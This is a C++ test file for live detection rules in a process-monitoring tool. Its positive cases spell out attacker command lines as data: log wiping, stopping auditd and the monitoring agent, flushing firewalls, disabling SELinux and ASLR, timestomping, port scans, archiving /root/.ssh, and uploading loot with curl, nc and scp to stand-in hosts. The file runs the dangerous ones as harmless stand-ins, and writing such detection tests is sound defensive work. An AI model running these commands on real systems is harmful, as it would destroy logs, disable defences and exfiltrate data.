// Live tests of the `on: exec` rules for defence evasion, discovery,
// collection and exfiltration (issue 18, the "lib2" part of the library):
// procmond runs with its real-time source, each test runs real processes,
// waits until their exec events are stored, stops procmond and runs the rule
// over the store (RuleEventsLiveTest). Needs root.
//
// Every case is a list of command lines run one after another. A command is
// either real (argv[0] is the program's path: tar of /etc into the scratch
// directory, python3 -m http.server on 127.0.0.1, touch -r /bin/ls, a bash
// /dev/tcp loop over closed loopback ports, ...) or, where the real command
// would change this host (stopping auditd, flushing the firewall, turning
// ASLR off), a stand-in: /bin/true copied under the tool's name into the
// scratch directory and run with the attacker's exact argument vector. The
// rules read names and command lines, so the stand-in is what they see of the
// real tool; the tests say which is which.
#include <unistd.h>

#include <fstream>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "tests/rules/rules_events_fixture.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

// One command of a case.
struct Cmd {
  // "": argv[0] is the program to run. Otherwise the name of a stand-in
  // (/bin/true copied to <scratch>/bin/<stand_in>); argv[0] stays as written.
  std::string stand_in;
  std::vector<std::string> argv;
  // Exec events of children (of a shell) to wait for before the rule runs.
  int children = 0;
  // Waits for the command to end before the next one starts; false for a
  // server, which is killed once its exec is stored.
  bool ends = true;
};

// What the helpers need of the fixture (whose members are protected).
struct Live {
  std::function<bool(const std::string&)> wait_row;
  std::function<detection::RuleResult(const std::string&)> stop_and_run;
  std::function<std::string()> log;
  const ScratchDir& work;
};

#define LIB2_LIVE                                                                                      \
  Live {                                                                                               \
    [this](const std::string& sql) { return WaitForRow(sql); },                                        \
        [this](const std::string& id) { return StopAndRun(id); }, [this] { return procmond_->Log(); }, \
        work()                                                                                         \
  }

// True once `pid` is a zombie (ended, not reaped) or gone.
bool Ended(pid_t pid) {
  std::ifstream f("/proc/" + std::to_string(pid) + "/stat");
  std::string stat((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  const auto paren = stat.rfind(')');
  return paren == std::string::npos || paren + 2 >= stat.size() || stat[paren + 2] == 'Z';
}

// Runs the commands in order; returns their pids once their exec events
// (and those of the children they announce) are stored.
std::vector<pid_t> RunCommands(const Live& live, const std::vector<Cmd>& cmds) {
  std::vector<pid_t> pids;
  for (const Cmd& c : cmds) {
    std::string path = c.argv.at(0);
    if (!c.stand_in.empty()) {
      path = live.work.File("bin/" + c.stand_in);
      if (::access(path.c_str(), X_OK) != 0) CopyExecutable("/bin/true", path);
    }
    auto proc = TestProcess::Start(path, c.argv);
    if (proc == nullptr) return {};
    const std::string pid = std::to_string(proc->pid());
    const std::string execs = "SELECT COUNT(*) FROM process_events WHERE event_type = 'exec' AND ";
    EXPECT_TRUE(live.wait_row(execs + "pid = " + pid)) << c.argv.at(0) << "\n" << live.log();
    if (c.children > 0) {
      EXPECT_TRUE(live.wait_row("SELECT COUNT(*) >= " + std::to_string(c.children) + " FROM process_events " +
                                "WHERE event_type = 'exec' AND ppid = " + pid))
          << c.argv.at(0) << "\n"
          << live.log();
    }
    if (c.ends) {
      EXPECT_TRUE(WaitUntil([&] { return Ended(proc->pid()); })) << c.argv.at(0) << " did not end";
    }
    pids.push_back(proc->pid());
  }
  return pids;
}

// Positive: every command is reported exactly once (its own pid).
void ExpectEachReported(const Live& live, const std::string& rule, const std::vector<Cmd>& cmds) {
  const auto pids = RunCommands(live, cmds);
  ASSERT_EQ(pids.size(), cmds.size());
  const auto r = live.stop_and_run(rule);
  for (size_t i = 0; i < pids.size(); ++i) {
    size_t rows = 0;
    for (const auto& row : r.rows) rows += IntOf(row, "pid") == pids[i] ? 1 : 0;
    EXPECT_EQ(rows, 1u) << rule << " on `" << cmds[i].argv.back() << "`: " << r.rows.size() << " rows";
  }
}

// Negative: no command, and no child of one, is reported.
void ExpectNoneReported(const Live& live, const std::string& rule, const std::vector<Cmd>& cmds) {
  const auto pids = RunCommands(live, cmds);
  ASSERT_EQ(pids.size(), cmds.size());
  const auto r = live.stop_and_run(rule);
  for (const auto& row : r.rows) {
    for (pid_t p : pids) {
      EXPECT_NE(IntOf(row, "pid"), p) << rule << ": " << row.dump();
      EXPECT_NE(IntOf(row, "ppid"), p) << rule << ": " << row.dump();
    }
  }
}

Cmd Sh(const std::string& script, int children = 0) {
  return {"", {"/bin/sh", "-c", script}, children};
}
Cmd Real(const std::string& tool, std::vector<std::string> args) {
  const std::string path = SystemBinary(tool);
  EXPECT_NE(path, "") << tool << " is not installed";
  args.insert(args.begin(), path.empty() ? "/bin/false" : path);
  return {"", args};
}
// A stand-in for `argv[0]`.
Cmd As(std::vector<std::string> argv) {
  return {argv.at(0), argv};
}

// proc-log-wiping: stand-ins (the real commands would destroy this host's logs).
TEST_F(RuleEventsLiveTest, ProcLogWiping_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-log-wiping",
      {As({"shred", "-u", "-z", "/var/log/auth.log"}), As({"truncate", "-s", "0", "/var/log/wtmp"}),
       As({"sh", "-c", "cat /dev/null > /var/log/syslog; : > /var/log/btmp"}),
       As({"rm", "-rf", "/var/log/journal/"}), As({"journalctl", "--rotate", "--vacuum-time=1s"}),
       As({"sh", "-c", "utmpdump -r < /tmp/.w > /var/log/wtmp"})});
}

TEST_F(RuleEventsLiveTest, ProcLogWiping_Negative) {
  // logrotate-like compression of an old log, reading logs, appending to one.
  ExpectNoneReported(
      LIB2_LIVE, "proc-log-wiping",
      {As({"gzip", "-9", "/var/log/syslog.2"}), Real("journalctl", {"-n", "5", "--no-pager"}),
       Real("tail", {"-n", "5", "/var/log/auth.log"}), As({"sh", "-c", "echo started >> /var/log/myapp.log"}),
       As({"sh", "-c", "find /var/log/myapp -name '*.gz' -mtime +30 -delete"}),
       As({"sh", "-c", "ls /var/log/ 2>/dev/null > /tmp/listing"})});
}

// proc-audit-disabled: stand-ins.
TEST_F(RuleEventsLiveTest, ProcAuditDisabled_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-audit-disabled",
      {As({"systemctl", "stop", "auditd"}), As({"systemctl", "disable", "--now", "auditd.service"}),
       As({"service", "auditd", "stop"}), As({"auditctl", "-e", "0"}), As({"auditctl", "-D"}),
       As({"pkill", "-9", "auditd"}), As({"auditctl", "-a", "never,task"})});
}

TEST_F(RuleEventsLiveTest, ProcAuditDisabled_Negative) {
  ExpectNoneReported(
      LIB2_LIVE, "proc-audit-disabled",
      {As({"systemctl", "status", "auditd"}), As({"systemctl", "restart", "auditd"}), As({"auditctl", "-l"}),
       As({"auditctl", "-d", "always,exit", "-F", "arch=b64", "-S", "openat"}), As({"auditctl", "-e", "1"}),
       As({"killall", "-HUP", "auditd"})});
}

// proc-logging-service-stopped: stand-ins.
TEST_F(RuleEventsLiveTest, ProcLoggingServiceStopped_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-logging-service-stopped",
      {As({"systemctl", "stop", "rsyslog"}), As({"systemctl", "mask", "systemd-journald.service"}),
       As({"systemctl", "stop", "sentineld-procmond.service"}),
       As({"systemctl", "disable", "--now", "sentinelagent"}), As({"service", "syslog-ng", "stop"}),
       As({"killall", "-9", "rsyslogd"})});
}

TEST_F(RuleEventsLiveTest, ProcLoggingServiceStopped_Negative) {
  // What logrotate and package upgrades do, and reading a unit's log.
  ExpectNoneReported(
      LIB2_LIVE, "proc-logging-service-stopped",
      {As({"systemctl", "kill", "-s", "HUP", "rsyslog.service"}), As({"systemctl", "restart", "rsyslog"}),
       As({"killall", "-HUP", "rsyslogd"}), As({"journalctl", "-u", "sentinelagent", "--no-pager"}),
       As({"systemctl", "status", "systemd-journald"})});
}

// proc-aslr-disabled: setarch -R for real (ASLR off for one /bin/true);
// the system-wide switch through stand-ins.
TEST_F(RuleEventsLiveTest, ProcAslrDisabled_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-aslr-disabled",
      {Real("setarch", {"-R", "/bin/true"}), Real("setarch", {"--addr-no-randomize", "/bin/true"}),
       As({"sysctl", "-w", "kernel.randomize_va_space=0"}),
       As({"sh", "-c", "echo 0 > /proc/sys/kernel/randomize_va_space"})});
}

TEST_F(RuleEventsLiveTest, ProcAslrDisabled_Negative) {
  ExpectNoneReported(
      LIB2_LIVE, "proc-aslr-disabled",
      {Real("sysctl", {"kernel.randomize_va_space"}), Real("cat", {"/proc/sys/kernel/randomize_va_space"}),
       Real("setarch", {"--uname-2.6", "/bin/true"}), As({"sysctl", "-w", "kernel.randomize_va_space=2"})});
}

// proc-firewall-flushed: stand-ins (no firewall tool is installed here, and
// the real ones would open this host).
TEST_F(RuleEventsLiveTest, ProcFirewallFlushed_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-firewall-flushed",
      {As({"iptables", "-F"}), As({"iptables", "-t", "filter", "-F", "INPUT"}), As({"ip6tables", "--flush"}),
       As({"iptables", "-P", "INPUT", "ACCEPT"}), As({"iptables", "-X"}), As({"nft", "flush", "ruleset"}),
       As({"ufw", "disable"}), As({"systemctl", "stop", "firewalld"})});
}

TEST_F(RuleEventsLiveTest, ProcFirewallFlushed_Negative) {
  // Docker's own chains, listing, a fragment match (-f), status queries.
  ExpectNoneReported(LIB2_LIVE, "proc-firewall-flushed",
                     {As({"iptables", "-t", "nat", "-F", "DOCKER"}), As({"iptables", "-X", "DOCKER-USER"}),
                      As({"iptables", "-L", "-n"}), As({"iptables", "-A", "INPUT", "-f", "-j", "DROP"}),
                      As({"iptables", "-P", "FORWARD", "DROP"}), As({"nft", "list", "ruleset"}),
                      As({"ufw", "status"}), As({"systemctl", "restart", "nftables"})});
}

// proc-mac-disabled: stand-ins.
TEST_F(RuleEventsLiveTest, ProcMacDisabled_Positive) {
  ExpectEachReported(LIB2_LIVE, "proc-mac-disabled",
                     {As({"setenforce", "0"}), As({"sh", "-c", "echo 0 > /sys/fs/selinux/enforce"}),
                      As({"sed", "-i", "s/^SELINUX=enforcing/SELINUX=disabled/", "/etc/selinux/config"}),
                      As({"aa-teardown"}), As({"aa-complain", "/etc/apparmor.d/usr.sbin.cupsd"}),
                      As({"apparmor_parser", "-R", "/etc/apparmor.d/usr.bin.man"}),
                      As({"systemctl", "disable", "--now", "apparmor"})});
}

TEST_F(RuleEventsLiveTest, ProcMacDisabled_Negative) {
  // What package scripts and status checks run.
  ExpectNoneReported(
      LIB2_LIVE, "proc-mac-disabled",
      {As({"getenforce"}), As({"setenforce", "1"}), As({"aa-status"}),
       As({"apparmor_parser", "-r", "-T", "-W", "/etc/apparmor.d/usr.bin.man"}),
       As({"aa-enforce", "/etc/apparmor.d/usr.sbin.cupsd"}), As({"systemctl", "reload", "apparmor"})});
}

// proc-timestomp: touch -r of a system binary onto a scratch file for real;
// forging a system file's date through a stand-in.
TEST_F(RuleEventsLiveTest, ProcTimestomp_Positive) {
  const std::string payload = work().File("payload");
  std::ofstream(payload) << "x";
  ExpectEachReported(
      LIB2_LIVE, "proc-timestomp",
      {Real("touch", {"-r", "/bin/ls", payload}), Real("touch", {"--reference=/usr/bin/env", payload}),
       As({"touch", "-d", "2019-01-01 00:00", "/usr/sbin/sshd"}),
       As({"touch", "-a", "-m", "-t", "201901010000", "/var/log/auth.log"})});
}

TEST_F(RuleEventsLiveTest, ProcTimestomp_Negative) {
  // Build-tree stamps: explicit dates and references inside a project.
  const std::string a = work().File("a"), b = work().File("b");
  std::ofstream(a) << "x";
  ExpectNoneReported(LIB2_LIVE, "proc-timestomp",
                     {Real("touch", {"-d", "2 hours ago", b}), Real("touch", {"-r", a, b}),
                      Real("touch", {b}), As({"touch", "-d", "@1700000000", "debian/tmp/usr/bin/tool"})});
}

// proc-file-immutable-attr: a real chattr +i / -i on a scratch file.
TEST_F(RuleEventsLiveTest, ProcFileImmutableAttr_Positive) {
  const std::string f = work().File("locked");
  std::ofstream(f) << "x";
  ExpectEachReported(LIB2_LIVE, "proc-file-immutable-attr",
                     {Real("chattr", {"+i", f}), Real("chattr", {"-i", f}), Real("chattr", {"+a", f}),
                      Real("chattr", {"-a", f}), As({"chattr", "+ia", "/root/.ssh/authorized_keys"})});
}

TEST_F(RuleEventsLiveTest, ProcFileImmutableAttr_Negative) {
  // No copy-on-write for a VM image directory, listing attributes.
  const std::string d = work().File("images");
  ::mkdir(d.c_str(), 0700);
  ExpectNoneReported(
      LIB2_LIVE, "proc-file-immutable-attr",
      {Real("chattr", {"-R", "+C", d}), Real("lsattr", {"-d", d}), As({"chattr", "-V", "+d", d})});
}

// proc-discovery-sweep: a real sweep of six discovery commands from one shell.
TEST_F(RuleEventsLiveTest, ProcDiscoverySweep_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-discovery-sweep",
      {Sh("id; whoami; uname -a; hostname; cat /etc/os-release; ps -e; cat /etc/passwd; exit 0", 7)});
}

TEST_F(RuleEventsLiveTest, ProcDiscoverySweep_Negative) {
  // A build script asking for the machine type (three kinds, many calls),
  // and three shells with two discovery commands each.
  ExpectNoneReported(
      LIB2_LIVE, "proc-discovery-sweep",
      {Sh("uname -m; uname -r; uname -s; uname -m; id -u; hostname; exit 0", 6), Sh("id; whoami; exit 0", 2),
       Sh("uname -a; ps -e; exit 0", 2), Sh("cat /etc/passwd; w; exit 0", 2)});
}

// proc-network-scanner: a real bash /dev/tcp loop over closed loopback
// ports; nmap, masscan and netcat through stand-ins (not installed here).
TEST_F(RuleEventsLiveTest, ProcNetworkScanner_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-network-scanner",
      {Real("bash",
            {"-c", "for p in 1 2 3; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null && echo $p; done; exit 0"}),
       As({"nmap", "-sS", "-p-", "10.0.0.0/24"}),
       As({"masscan", "-p1-65535", "10.0.0.0/8", "--rate", "10000"}),
       As({"nc", "-zv", "10.0.0.5", "1-1024"})});
}

TEST_F(RuleEventsLiveTest, ProcNetworkScanner_Negative) {
  // A readiness check on one port (wait-for-it), and netcat as a client.
  ExpectNoneReported(
      LIB2_LIVE, "proc-network-scanner",
      {Real("bash", {"-c", "(echo > /dev/tcp/127.0.0.1/9) 2>/dev/null; exit 0"}),
       As({"nc", "-z", "db", "5432"}), As({"nc", "10.0.0.5", "80"}), As({"nmap-wrapper-docs", "--help"})});
}

// proc-security-tool-discovery: real process searches.
TEST_F(RuleEventsLiveTest, ProcSecurityToolDiscovery_Positive) {
  ExpectEachReported(LIB2_LIVE, "proc-security-tool-discovery",
                     {Sh("ps aux | grep -i falco; exit 0", 2), Real("pgrep", {"-x", "auditd"}),
                      Real("pidof", {"procmond"}), Real("grep", {"-Ei", "osquery|wazuh"})});
}

TEST_F(RuleEventsLiveTest, ProcSecurityToolDiscovery_Negative) {
  // Searching for a web server; a developer grepping SentinelD's sources.
  ExpectNoneReported(LIB2_LIVE, "proc-security-tool-discovery",
                     {Sh("ps aux | grep -i nginx; exit 0", 2), Real("pgrep", {"-x", "nginx"}),
                      Real("grep", {"-rn", "procmond", work().path()})});
}

// proc-staging-http-server: a real python3 -m http.server on 127.0.0.1 (an
// ephemeral port), killed once its exec is stored.
TEST_F(RuleEventsLiveTest, ProcStagingHttpServer_Positive) {
  Cmd server =
      Real("python3", {"-m", "http.server", "--bind", "127.0.0.1", "--directory", work().path(), "0"});
  server.ends = false;
  ExpectEachReported(
      LIB2_LIVE, "proc-staging-http-server",
      {server, As({"php", "-S", "0.0.0.0:8000"}), As({"ruby", "-run", "-e", "httpd", ".", "-p", "8000"}),
       As({"busybox", "httpd", "-f", "-p", "8000"})});
}

TEST_F(RuleEventsLiveTest, ProcStagingHttpServer_Negative) {
  ExpectNoneReported(
      LIB2_LIVE, "proc-staging-http-server",
      {Real("python3", {"-m", "venv", "--help"}), Real("python3", {"-m", "json.tool", "/dev/null"}),
       As({"php", "-s", "index.php"}), As({"curl", "-s", "http://127.0.0.1:9/"})});
}

// proc-archive-sensitive-dirs: real archives of /etc files into the scratch
// directory.
TEST_F(RuleEventsLiveTest, ProcArchiveSensitiveDirs_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-archive-sensitive-dirs",
      {Real("tar", {"czf", work().File("etc.tgz"), "/etc/hostname", "/etc/os-release"}),
       Real("tar", {"-C", "/", "-cf", work().File("etc.tar"), "etc/hostname"}),
       Real("zip", {"-q", work().File("etc.zip"), "/etc/hostname"}),
       As({"tar", "-czf", "/tmp/.k.tgz", "/root/.ssh", "/home"}), As({"7z", "a", "/tmp/h.7z", "/home/"})});
}

TEST_F(RuleEventsLiveTest, ProcArchiveSensitiveDirs_Negative) {
  // A project archived, and an archive of /etc listed or extracted.
  const std::string proj = work().File("proj");
  ::mkdir(proj.c_str(), 0700);
  std::ofstream(proj + "/main.c") << "int main(void) { return 0; }\n";
  ExpectNoneReported(
      LIB2_LIVE, "proc-archive-sensitive-dirs",
      {Real("tar", {"czf", work().File("proj.tgz"), "-C", work().path(), "proj"}),
       Real("zip", {"-q", "-r", work().File("proj.zip"), proj}),
       Real("tar", {"tzf", work().File("proj.tgz")}), As({"tar", "xzf", "etc-backup.tgz", "-C", "/etc"})});
}

// proc-exfil-upload-tool: real curl and wget uploads to a closed loopback
// port (the connection is refused; nothing leaves the host); scp through a
// stand-in.
TEST_F(RuleEventsLiveTest, ProcExfilUploadTool_Positive) {
  const std::string loot = work().File("loot.tgz");
  std::ofstream(loot) << "x";
  ExpectEachReported(LIB2_LIVE, "proc-exfil-upload-tool",
                     {Real("curl", {"-s", "-T", loot, "http://127.0.0.1:9/"}),
                      Real("curl", {"-s", "-F", "f=@" + loot, "http://127.0.0.1:9/up"}),
                      Real("wget", {"-q", "-t", "1", "--post-file=" + loot, "http://127.0.0.1:9/"}),
                      As({"sh", "-c", "nc 10.0.0.5 4444 < /tmp/.x.tgz"}),
                      As({"scp", "/tmp/.x.tar.gz", "root@203.0.113.7:/tmp/"})});
}

TEST_F(RuleEventsLiveTest, ProcExfilUploadTool_Negative) {
  // Downloads, and an API call with a JSON body from a file.
  const std::string body = work().File("body.json");
  std::ofstream(body) << "{}";
  ExpectNoneReported(LIB2_LIVE, "proc-exfil-upload-tool",
                     {Real("curl", {"-s", "-f", "-o", work().File("x"), "http://127.0.0.1:9/x.tgz"}),
                      Real("curl", {"-s", "-d", "@" + body, "http://127.0.0.1:9/api"}),
                      Real("wget", {"-q", "-t", "1", "-O", work().File("y"), "http://127.0.0.1:9/y.zip"}),
                      As({"scp", "build/app.tar.gz", "deploy@build-host:/srv/"})});
}

// proc-bpf-abuse: a real bpftool prog load of an object that does not exist
// (it fails before anything reaches the kernel); bpftrace and the sysctl
// through stand-ins.
TEST_F(RuleEventsLiveTest, ProcBpfAbuse_Positive) {
  ExpectEachReported(
      LIB2_LIVE, "proc-bpf-abuse",
      {Real("bpftool", {"prog", "load", work().File("absent.o"), "/sys/fs/bpf/lib2-absent"}),
       As({"bpftrace", "--unsafe", "-e", "tracepoint:syscalls:sys_enter_kill { system(\"id\"); }"}),
       As({"ip", "link", "set", "dev", "eth0", "xdp", "obj", "/tmp/.x.o", "sec", "xdp"}),
       As({"sysctl", "-w", "kernel.unprivileged_bpf_disabled=0"})});
}

TEST_F(RuleEventsLiveTest, ProcBpfAbuse_Negative) {
  // Listing programs, generating a skeleton at build time, tracing only.
  ExpectNoneReported(
      LIB2_LIVE, "proc-bpf-abuse",
      {Real("bpftool", {"prog", "show"}), Real("bpftool", {"version"}),
       As({"bpftool", "gen", "skeleton", "exec_events.bpf.o"}),
       As({"bpftrace", "-e", "tracepoint:syscalls:sys_enter_execve { printf(\"%s\\n\", comm); }"}),
       As({"sysctl", "-w", "kernel.unprivileged_bpf_disabled=1"})});
}

}  // namespace
}  // namespace sentinel::rules_test
